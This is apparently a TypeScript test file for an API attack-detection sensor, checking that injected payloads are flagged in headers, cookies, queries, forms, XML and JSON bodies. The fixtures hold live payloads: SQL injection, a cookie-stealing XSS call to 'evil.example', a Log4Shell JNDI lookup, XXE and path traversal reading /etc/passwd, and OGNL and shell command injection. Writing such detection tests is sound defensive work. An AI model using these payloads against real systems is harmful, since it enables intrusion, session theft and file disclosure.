import type { AttackVerdict, Exchange } from '@apiscope/schema'
import fc from 'fast-check'
import { SensorCore } from '../../src/core'
import { FIXTURE_KEY } from '../../src/options'
import { Conversation } from '../support/conversation'

const SQLI = "x' UNION SELECT NULL,login,secret FROM staff-- -"
const XSS = '<script>fetch("//evil.example/"+document.cookie)</script>'
const JNDI = '${jndi:ldap://evil.example/a}'
const XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><q>&x;</q></r>'
const words = (n: number) => Array.from({ length: n }, (_, i) => `blue chair ${i}`)

interface Sent {
  target?: string
  method?: string
  fields?: string[]
  type?: string
  body?: string | Buffer
}

function bytesOf({ target = '/orders', method = 'POST', fields = [], type = 'application/json', body = '' }: Sent) {
  const content = typeof body === 'string' ? Buffer.from(body) : body
  const host = fields.some((line) => /^host:/i.test(line)) ? [] : ['Host: shop.example']
  const head = [`${method} ${target} HTTP/1.1`, ...host, ...fields]
  if (type !== '') head.push(`Content-Type: ${type}`)
  return Buffer.concat([
    Buffer.from(`${head.join('\r\n')}\r\nContent-Length: ${content.length}\r\n\r\n`, 'latin1'),
    content,
  ])
}

/** The exchange of a request that comes when its API has long been sampled: nothing but suspicion makes anybody look at it. */
function outsideSample(sent: Sent): Exchange {
  const all: Exchange[] = []
  const core = new SensorCore(
    { sensor: 's', hmacKey: FIXTURE_KEY },
    { exchange: (e) => void all.push(e), actor() {}, heartbeat() {} },
  )
  const connection = new Conversation(core, '198.51.100.1', 40_000).open()
  const answer = 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n'
  const plain = bytesOf({ ...sent, target: '/orders', fields: [], body: '{"n":1}', type: 'application/json' })
  for (let i = 0; i < 70; i++) connection.send(0, plain).send(1, answer)
  connection.send(0, bytesOf(sent)).send(1, answer).close()
  core.finish()
  expect(all).toHaveLength(71)
  expect(all.slice(0, 70).every(({ attacks, scored }) => scored && attacks === undefined)).toBe(true)
  return all[70]!
}

const places = (attacks: AttackVerdict[] | undefined) => attacks?.map(({ in: place, name }) => `${place} ${name}`) ?? []
const json = (value: unknown) => JSON.stringify(value)
const nested = (depth: number, inner: string) => `${'{"a":'.repeat(depth)}${inner}${'}'.repeat(depth)}`
const form = 'application/x-www-form-urlencoded'
const basic = (user: string, password: string) =>
  `Authorization: Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`
const token = (head: object) => `${Buffer.from(json(head)).toString('base64url')}.eyJzdWIiOiIxIn0.c2ln`
const part = (name: string, more: string, value: string) =>
  `--B\r\nContent-Disposition: form-data; name="${name}"${more}\r\n\r\n${value}\r\n`

const CASES: [string, Sent, string][] = [
  ['a field of a body', { body: json({ note: JNDI }) }, 'request note'],
  ['a password in a body', { body: json({ user: 'ann', password: SQLI }) }, 'request password'],
  ['a password in a form', { type: form, body: `password=${encodeURIComponent(SQLI)}` }, 'request password'],
  ['a one-time code', { body: json({ otp: SQLI }) }, 'request otp'],
  ['a session in the query', { target: `/orders?sid=${encodeURIComponent(SQLI)}` }, 'query sid'],
  ['a cookie', { fields: [`Cookie: lang=en; track=${JNDI}`] }, 'cookie track'],
  ['a percent-encoded cookie', { fields: [`Cookie: lang=en; cart=${encodeURIComponent(SQLI)}`] }, 'cookie cart'],
  ['User-Agent', { fields: [`User-Agent: ${JNDI}`] }, 'header user-agent'],
  ['Referer', { fields: [`Referer: https://x.example/?q=${encodeURIComponent(SQLI)}`] }, 'header referer'],
  ['Accept', { fields: [`Accept: ${JNDI}`] }, 'header accept'],
  ['Accept-Language', { fields: [`Accept-Language: ${JNDI}`] }, 'header accept-language'],
  ['If-None-Match', { fields: [`If-None-Match: "${JNDI}"`] }, 'header if-none-match'],
  ['Range', { fields: [`Range: bytes=${JNDI}`] }, 'header range'],
  ['X-Forwarded-For', { fields: [`X-Forwarded-For: ${JNDI}`] }, 'header x-forwarded-for'],
  ['X-Forwarded-Host', { fields: [`X-Forwarded-Host: ${JNDI}`] }, 'header x-forwarded-host'],
  ['Origin', { fields: [`Origin: ${JNDI}`] }, 'header origin'],
  ['a field of its own', { fields: [`X-Trace: ${SQLI}`] }, 'header x-trace'],
  ['Host', { fields: [`Host: ${JNDI}`] }, 'header host'],
  ['Content-Type', { type: `%{(#_='multipart/form-data').(#cmd='id')}` }, 'header content-type'],
  ['the user name of Basic', { fields: [basic(SQLI, 'x')] }, 'header authorization'],
  ['the password of Basic', { fields: [basic('ann', SQLI)] }, 'header authorization.password'],
  [
    'the key id of a token',
    { fields: [`Authorization: Bearer ${token({ alg: 'HS256', kid: '../../../etc/passwd' })}`] },
    'header authorization',
  ],
  ['a folded field', { fields: [`X-Trace: a`, ` ${SQLI}`] }, 'header x-trace'],
  ['a path', { target: '/orders/..%2f..%2f..%2fetc%2fpasswd' }, 'path (path)'],
  ['a name in the query', { target: '/orders?user[$ne]=1' }, 'query (name)'],
  ['an external entity', { type: 'application/xml', body: XXE }, 'request (body)'],
  ['an external entity under another type', { type: 'text/plain', body: XXE }, 'request (body)'],
  ['text before an element', { type: 'application/xml', body: `<a>${SQLI}<b>1</b></a>` }, 'request (deep)'],
  ['JSON below 32 levels', { body: nested(60, json({ b: SQLI })) }, 'request (deep)'],
  [
    'JSON below 32 levels beside a plain field',
    { body: `{"n":1,"d":${nested(60, json({ b: SQLI }))}}` },
    'request (deep)',
  ],
  ['JSON under another type', { type: 'text/html', body: json({ note: SQLI }) }, 'request note'],
  ['a form under another type', { type: 'application/json', body: `note=${encodeURIComponent(SQLI)}` }, 'request note'],
  ['no type', { type: '', body: json({ note: SQLI }) }, 'request note'],
  ['text', { type: 'text/plain', body: `${'lorem ipsum '.repeat(400)}\n${SQLI}` }, 'request $'],
  ['the 71st value', { body: json({ v: [...words(70), SQLI] }) }, 'request v[]'],
  [
    'a value behind 600 names',
    { body: json({ ...Object.fromEntries(words(600).map((word, i) => [`k${i}`, word])), z: SQLI }) },
    'request z',
  ],
  [
    'the 41st value of a name in the query',
    {
      target: `/orders?${words(40)
        .map((word) => `q=${encodeURIComponent(word)}`)
        .join('&')}&q=${encodeURIComponent(SQLI)}`,
    },
    'query q',
  ],
  ['a value behind 40 kB', { body: json({ pad: 'lorem ipsum '.repeat(3_400), z: SQLI }) }, 'request z'],
  ['a command in User-Agent', { fields: ['User-Agent: ;cat /etc/passwd'] }, 'header user-agent'],
  ['a path in Range', { fields: ['Range: ../../../../etc/passwd'] }, 'header range'],
  [
    'the middle of a long value',
    { type: form, body: `q=${'lorem+ipsum+'.repeat(400)}${encodeURIComponent(XSS)}${'+lorem+ipsum'.repeat(400)}` },
    'request q',
  ],
  ['a value behind 800 short words', { fields: [`X-Trace: ${'a b '.repeat(400)}${XSS}`] }, 'header x-trace'],
  [
    'the user name of Digest',
    { fields: [`Authorization: Digest username="${SQLI}", realm="r", nonce="n", uri="/", response="r"`] },
    'header authorization.username',
  ],
  [
    'a claim of a token',
    {
      fields: [
        `Authorization: Bearer ${['{"alg":"none"}', json({ sub: SQLI })].map((t) => Buffer.from(t).toString('base64url')).join('.')}.`,
      ],
    },
    'header authorization',
  ],
  [
    'the 701st part of a form',
    {
      type: 'multipart/form-data; boundary=B',
      body: `${words(700)
        .map((word, i) => part(`k${i}`, '', word))
        .join('')}${part('z', '', SQLI)}--B--\r\n`,
    },
    'request z',
  ],
  [
    'a part of a form with bare line feeds',
    { type: 'multipart/form-data; boundary=B', body: `${part('note', '', SQLI)}--B--\r\n`.replaceAll('\r\n', '\n') },
    'request note',
  ],
  [
    'a long part of a form',
    {
      type: 'multipart/form-data; boundary=B',
      body: `${part('note', '', `${'lorem ipsum '.repeat(2_500)}${XSS}`)}--B--\r\n`,
    },
    'request note',
  ],
  [
    'an external entity in a picture',
    {
      type: 'multipart/form-data; boundary=B',
      body: `${part('f', '; filename="a.svg"\r\nContent-Type: image/svg+xml', XXE)}--B--\r\n`,
    },
    'request (body)',
  ],
  [
    'an entity behind a long comment',
    {
      type: 'application/xml',
      body: `<!DOCTYPE r [<!-- ${'lorem ipsum '.repeat(200)} --><!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
    },
    'request (body)',
  ],
  [
    'the name of a file',
    {
      type: 'multipart/form-data; boundary=B',
      body: `${part('f', '; filename="../../../../etc/passwd"', 'x')}--B--\r\n`,
    },
    'request f.filename',
  ],
  [
    'a part of a form',
    { type: 'multipart/form-data; boundary=B', body: `${part('note', '', SQLI)}--B--\r\n` },
    'request note',
  ],
  [
    'the name of a part',
    { type: 'multipart/form-data; boundary=B', body: `${part(`a'];drop table users--`, '', 'x')}--B--\r\n` },
    'request (name)',
  ],
  [
    'UTF-16',
    { type: 'application/json; charset=utf-16le', body: Buffer.from(json({ note: SQLI }), 'utf16le') },
    'request note',
  ],
  [
    'escapes of JSON',
    { body: `{"note":"${[...SQLI].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}` },
    'request note',
  ],
]

test.each(CASES)('K9, D1: an attack is seen in %s, outside the sample', (_what, sent, place) => {
  const exchange = outsideSample(sent)
  expect(places(exchange.attacks)).toContain(place)
  for (const { score, shape } of exchange.attacks!) {
    expect(score).toBeGreaterThan(0.8)
    // The word is the attacker's own, and so could be a person's.
    expect(shape).not.toMatch(/staff|login|evil/)
  }
})

test('K1: what looks like a redaction or a sealed text is scored like any other', () => {
  for (const wrap of [
    (v: string) => `[sealed:${v}`,
    (v: string) => `[token:${v}:9:other]`,
    (v: string) => `[jwt:${v}]`,
  ]) {
    expect(places(outsideSample({ body: json({ note: wrap(SQLI) }) }).attacks)).toEqual(['request note'])
    expect(places(outsideSample({ target: `/orders?q=${encodeURIComponent(wrap(SQLI))}` }).attacks)).toEqual([
      'query q',
    ])
  }
})

test('a credential shows the kind alone', () => {
  const [verdict] = outsideSample({ body: json({ password: SQLI }) }).attacks!
  expect(verdict).toMatchObject({ kind: 'sqli', shape: '(sqli)' })
})

test('a name that is data is masked', () => {
  const [verdict] = outsideSample({ body: json({ 'ann@x.example': { note: SQLI } }) }).attacks!
  expect(verdict!.name).not.toContain('ann')
})

test('ordinary requests have no verdicts', () => {
  const agent =
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36'
  const fields = [
    `User-Agent: ${agent}`,
    'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8',
    'Accept-Language: en-US,en;q=0.9,de;q=0.8',
    'If-None-Match: W/"5d8c72a5edda8-gzip"',
    'Range: bytes=0-499, -500',
    'Forwarded: for=192.0.2.60;proto=http;by=203.0.113.43',
    'sec-ch-ua: "Chromium";v="128", "Not;A=Brand";v="24"',
    'Cookie: _ga=GA1.1.123.456; s=s%3AJ0uVnXQ2vYB0Yg9k.8Qe2b%2FtQy3kA; lang=en',
    'traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
    basic('ann.lee', 'Tr0ub4dor&3'),
    `Authorization: Bearer ${token({ alg: 'HS256', typ: 'JWT', kid: '2024-01/a' })}`,
  ]
  const body = json({
    name: "Ann O'Hara",
    mail: 'ann@example.org',
    text: 'Please leave it at the door, thanks!',
    n: [1, 2.5],
  })
  expect(outsideSample({ target: '/orders?q=men%27s+shoes&page=2', fields, body }).attacks).toBeUndefined()
})

test('nothing in a request makes looking fail, and what is told is bounded', () => {
  const text = fc.oneof(
    fc.string(),
    fc.string({ unit: 'binary' }),
    fc.constantFrom(SQLI, JNDI, XXE, '{"a":', '<!DOCTYPE', '--B'),
  )
  fc.assert(
    fc.property(
      fc.array(text, { maxLength: 40 }),
      fc.constantFrom('application/json', form, 'text/xml', 'multipart/form-data; boundary=B', ''),
      (texts, type) => {
        const { attacks } = outsideSample({ type, body: Buffer.from(texts.join('&a=')) })
        expect((attacks ?? []).length).toBeLessThanOrEqual(16)
      },
    ),
    { numRuns: 15 },
  )
})
